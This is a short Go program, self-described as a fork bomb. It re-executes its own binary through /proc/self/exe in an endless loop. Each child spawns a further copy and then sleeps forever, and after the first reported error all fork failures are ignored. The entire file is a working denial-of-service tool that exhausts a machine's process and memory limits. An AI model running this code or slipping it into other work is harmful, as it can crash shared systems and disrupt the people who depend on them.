// Command forkbomb starts copies of itself that start copies of themselves,
// forever, ignoring every failure.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"time"
)

func main() {
	reported := false
	for {
		cmd := exec.Command("/proc/self/exe", "child")
		if err := cmd.Start(); err != nil {
			if !reported {
				fmt.Println("fork failed:", err)
				reported = true
			}
			time.Sleep(time.Millisecond)
			continue
		}
		if len(os.Args) > 1 {
			// A child sleeps after starting one grandchild.
			for {
				time.Sleep(time.Hour)
			}
		}
	}
}
